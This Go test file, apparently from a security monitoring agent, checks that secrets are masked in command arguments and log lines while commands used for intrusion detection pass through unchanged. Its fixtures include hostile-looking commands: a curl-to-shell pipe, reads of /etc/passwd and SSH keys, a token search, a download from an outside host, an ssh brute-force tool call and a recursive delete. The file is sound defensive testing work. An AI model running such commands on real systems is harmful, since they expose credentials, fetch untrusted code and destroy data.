package redact

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/bulkheadhq/bulkhead/agent/activity"
	"github.com/bulkheadhq/bulkhead/agent/linuxaudit"
	"github.com/bulkheadhq/bulkhead/agent/replay"
)

// Arguments are separated by | here. S3cr3t must never be seen, and everything else must.
func TestArgs(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"app|--password=S3cr3t":                                      "app|--password=***",
		"app|--password|S3cr3t|--host|db1":                           "app|--password|***|--host|db1",
		"app|--db-password|S3cr3t":                                   "app|--db-password|***",
		"app|-password|S3cr3t":                                       "app|-password|***",
		"az|login|--service-principal|-u|app|-p|S3cr3t|--tenant|t":   "az|login|--service-principal|-u|app|-p|***|--tenant|t",
		"az|ad|sp|create|--client-secret|S3cr3t":                     "az|ad|sp|create|--client-secret|***",
		"mysql|-uroot|-pS3cr3t|-h|db":                                "mysql|-uroot|-p***|-h|db",
		"mysql|-u|root|-p|db":                                        "mysql|-u|root|-p|db",
		"/usr/bin/mysqldump|-pS3cr3t|db":                             "/usr/bin/mysqldump|-p***|db",
		"sshpass|-p|S3cr3t|ssh|-p|22|root@h":                         "sshpass|-p|***|ssh|-p|22|root@h",
		"sshpass|-pS3cr3t|ssh|h":                                     "sshpass|-p***|ssh|h",
		"sudo|-u|root|sshpass|-p|S3cr3t|ssh|h":                       "sudo|-u|root|sshpass|-p|***|ssh|h",
		"curl|-u|joe:S3cr3t|https://h/x":                             "curl|-u|joe:***|https://h/x",
		"curl|-ujoe:S3cr3t|https://h/x":                              "curl|-ujoe:***|https://h/x",
		"curl|https://joe:S3cr3t@h/x":                                "curl|https://joe:***@h/x",
		"git|clone|https://S3cr3tuser:S3cr3t@h/r.git":                "git|clone|https://S3cr3tuser:***@h/r.git",
		"curl|-H|Authorization: Bearer S3cr3t|h":                     "curl|-H|Authorization: Bearer ***|h",
		"curl|-H|X-Api-Key: S3cr3t|h":                                "curl|-H|X-Api-Key: ***|h",
		"curl|-d|{\"user\":\"joe\",\"password\":\"S3cr3t\"}":         "curl|-d|{\"user\":\"joe\",\"password\":\"***\"}",
		"curl|-d|user=joe&password=S3cr3t&x=1":                       "curl|-d|user=joe&password=***&x=1",
		"curl|https://a.blob.core.windows.net/c?sv=1&sig=S3cr3t":     "curl|https://a.blob.core.windows.net/c?sv=1&sig=***",
		"env|PGPASSWORD=S3cr3t|psql|-h|db":                           "env|PGPASSWORD=***|psql|-h|db",
		"sh|-c|PGPASSWORD=S3cr3t psql -h db":                         "sh|-c|PGPASSWORD=*** psql -h db",
		"sh|-c|mysql -u root -pS3cr3t db; sshpass -p 'S3cr3t' ssh h": "sh|-c|mysql -u root -p*** db; sshpass -p '***' ssh h",
		"bash|-c|curl -u joe:S3cr3t https://h | sh":                  "bash|-c|curl -u joe:*** https://h | sh",
		"sh|-c|export API_TOKEN=\"S3cr3t\" && run":                   "sh|-c|export API_TOKEN=\"***\" && run",
		"app|Server=x;Database=y;User Id=z;Password=S3cr3t;":         "app|Server=x;Database=y;User Id=z;Password=***;",
		"app|DefaultEndpointsProtocol=https;AccountName=a;AccountKey=S3cr3t==;EndpointSuffix=core": "app|DefaultEndpointsProtocol=https;AccountName=a;AccountKey=***;EndpointSuffix=core",
		"app|Endpoint=sb://h/;SharedAccessKeyName=n;SharedAccessKey=S3cr3t":                        "app|Endpoint=sb://h/;SharedAccessKeyName=n;SharedAccessKey=***",
		"redis-cli|-a|S3cr3t|get|x":                                                   "redis-cli|-a|***|get|x",
		"ldapsearch|-D|cn=a|-w|S3cr3t|-b|dc=x":                                        "ldapsearch|-D|cn=a|-w|***|-b|dc=x",
		"smbclient|//h/s|-U|joe%S3cr3t":                                               "smbclient|//h/s|-U|joe%***",
		"openssl|rsa|-passin|pass:S3cr3t|-in|k":                                       "openssl|rsa|-passin|pass:***|-in|k",
		"7z|a|-pS3cr3t|x.7z|f":                                                        "7z|a|-p***|x.7z|f",
		"htpasswd|-b|file|joe|S3cr3t":                                                 "htpasswd|-b|file|joe|***",
		"echo|eyJhbGciOiJI.eyJzdWIiOiIx.S3cr3t":                                       "echo|***",
		"deploy|ghp_S3cr3t9012345678901234567890123456":                               "deploy|***",
		"java|-Dspring.datasource.password=S3cr3t|-jar|a.jar":                         "java|-Dspring.datasource.password=***|-jar|a.jar",
		"docker|run|-e|DB_PASSWORD=S3cr3t|image":                                      "docker|run|-e|DB_PASSWORD=***|image",
		"echo|-----BEGIN RSA PRIVATE KEY-----\nS3cr3t\n-----END RSA PRIVATE KEY-----": "echo|***",
	} {
		args := bytes.Split([]byte(in), []byte("|"))
		if strings.Contains(in, "https://h | sh") { // the bar is a shell's
			args = [][]byte{[]byte("bash"), []byte("-c"), []byte("curl -u joe:S3cr3t https://h | sh")}
		}
		before := bytes.Join(args, []byte("|"))
		got, changed := New().Args(args)
		if s := string(bytes.Join(got, []byte("|"))); s != want {
			t.Errorf("%s\n got %s\nwant %s", in, s, want)
		}
		if changed != (in != want) {
			t.Errorf("%s: changed is %v", in, changed)
		}
		if !bytes.Equal(bytes.Join(args, []byte("|")), before) {
			t.Errorf("%s: the arguments given were changed", in)
		}
	}
}

// What detection reads stays as it is.
func TestArgs_Untouched(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		"./ssh2|1500|-b|10.49|pass|22|uname -a & lscpu", "ssh|-p|22|root@h", "nmap|-p|22|10.0.0.0/16", "chmod|+x|1|cyberinfo|go|pass|sshd", "wget|http://nasapaul.com/ninfo",
		"cat|/etc/passwd", "grep|-i|password|/etc/nginx/nginx.conf", "passwd|joe", "ls|/root/.ssh/id_rsa.pub", "sh|-c|echo $PASSWORD", "tar|-cpf|x.tar|.", "cp|-p|a|b", "mkdir|-p|/a/b",
		"docker|ps", "kubectl|get|secrets", "ssh-keygen|-t|ed25519", "curl|-fsSL|https://h:8443/x", "git|push|git@github.com:a/b.git", "cp|secret.txt|/tmp", "find|/|-name|*token*", "rm|-rf|1|a|pass.txt",
		"apt-key|adv|--keyserver|keyserver.ubuntu.com", "curl|-u|joe|h", "app|--password-file|/run/secrets/x", "app|--token-url=https://h/t",
	} {
		args := bytes.Split([]byte(in), []byte("|"))
		if got, changed := New().Args(args); changed {
			t.Errorf("%s became %s", in, bytes.Join(got, []byte("|")))
		}
	}
}

// In lines of logs, too, and in the commands that they tell of.
func TestLog(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"sudo:   eve : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/mysql -uroot -pS3cr3t db":            "sudo:   eve : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/mysql -uroot -p*** db",
		"CRON[7]: (root) CMD (mysqldump -uroot -pS3cr3t db > /srv/x)":                                           "CRON[7]: (root) CMD (mysqldump -uroot -p*** db > /srv/x)",
		"app[3]: connect to postgres://u:S3cr3t@h/db failed":                                                    "app[3]: connect to postgres://u:***@h/db failed",
		"nginx: GET /x?sig=S3cr3t&a=1":                                                                          "nginx: GET /x?sig=***&a=1",
		"sshd[1]: Failed password for invalid user token from 1.2.3.4 port 5 ssh2":                              "sshd[1]: Failed password for invalid user token from 1.2.3.4 port 5 ssh2",
		"passwd[3]: pam_unix(passwd:chauthtok): password changed for root":                                      "passwd[3]: pam_unix(passwd:chauthtok): password changed for root",
		"sshd[1]: Accepted publickey for git from 1.2.3.4 port 5 ssh2: RSA SHA256:nThbg6kXUpJWGl7E1IGOCspRomTx": "sshd[1]: Accepted publickey for git from 1.2.3.4 port 5 ssh2: RSA SHA256:nThbg6kXUpJWGl7E1IGOCspRomTx",
	} {
		message := []byte(in)
		e := activity.Event{Message: message}
		if New().Event(&e); string(e.Message) != want || string(message) != in {
			t.Errorf("%q became %q, want %q; what it pointed to is %q", in, e.Message, want, message)
		}
	}
}

func TestEvent(t *testing.T) {
	t.Parallel()
	r := New()
	args := [][]byte{[]byte("mysql"), []byte("-pS3cr3t")}
	e := activity.Event{
		Kind: activity.Exec, Command: activity.Command{Args: args, Line: []byte("mysql -pS3cr3t")}, Op: []byte("COMMAND=app --token S3cr3t"), Subject: []byte("password=S3cr3t"),
		Files: []activity.File{{Name: []byte("/tmp/x?sig=S3cr3t")}},
	}
	files := e.Files
	r.Event(&e)
	if string(e.Command.Line) != "mysql -p***" || string(e.Op) != "COMMAND=app --token ***" || string(e.Subject) != "password=***" || string(e.Files[0].Name) != "/tmp/x?sig=***" {
		t.Errorf("got %q %q %q %q", e.Command.Line, e.Op, e.Subject, e.Files[0].Name)
	}
	if string(args[1]) != "-pS3cr3t" || !strings.Contains(string(files[0].Name), "S3cr3t") {
		t.Error("what the event pointed to was changed")
	}
	line := activity.Event{Command: activity.Command{Line: []byte("curl -H 'Authorization: Basic S3cr3t' h")}}
	if r.Event(&line); string(line.Command.Line) != "curl -H 'Authorization: Basic ***' h" {
		t.Errorf("got %s", line.Command.Line)
	}
}

// The known intrusion goes through as it is: redaction blinds nobody.
func TestIntrusion_Untouched(t *testing.T) {
	t.Parallel()
	log := &replay.Log{Now: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)}
	replay.Intrusion(log, replay.Disguise{})
	var n activity.Normalizer
	r := New()
	seen := 0
	a := linuxaudit.NewReassembler(func(e *linuxaudit.Event) {
		x := *n.Audit(e)
		before := string(x.Command.Line)
		seen++
		if r.Event(&x); string(x.Command.Line) != before {
			t.Errorf("%s became %s", before, x.Command.Line)
		}
	})
	for line := range strings.Lines(log.Audit()) {
		a.Line([]byte(line))
	}
	a.Flush()
	if seen < 40 {
		t.Fatalf("%d events", seen)
	}
}

func FuzzRedact(f *testing.F) {
	f.Add("sh|-c|mysql -pS3cr3t 'x")
	f.Add("curl|-u|a:b|--password")
	f.Fuzz(func(t *testing.T, s string) {
		args := bytes.Split([]byte(s), []byte("|"))
		r := New()
		out, _ := r.Args(args)
		if len(out) != len(args) || !bytes.Equal(bytes.Join(args, []byte("|")), []byte(s)) {
			t.Errorf("%q became %q of %q", s, out, args)
		}
		line := []byte("sudo: x : COMMAND=" + s)
		r.Log(line)
		if string(line) != "sudo: x : COMMAND="+s {
			t.Errorf("what a line pointed to became %q", line)
		}
		once := bytes.Clone(r.Text([]byte(s)))
		if twice := r.Text(once); !bytes.Equal(once, twice) && len(twice) > len(once) {
			t.Errorf("%q grows: %q, %q", s, once, twice)
		}
	})
}

func BenchmarkArgs(b *testing.B) {
	r := New()
	args := bytes.Split([]byte("/usr/lib/gcc/x86_64-linux-gnu/12/cc1|-quiet|-I|/usr/include|-dumpbase|x.c|-mtune=generic|-march=x86-64|-O2|-o|/tmp/ccXYZ.s"), []byte("|"))
	for b.Loop() {
		r.Args(args)
	}
}
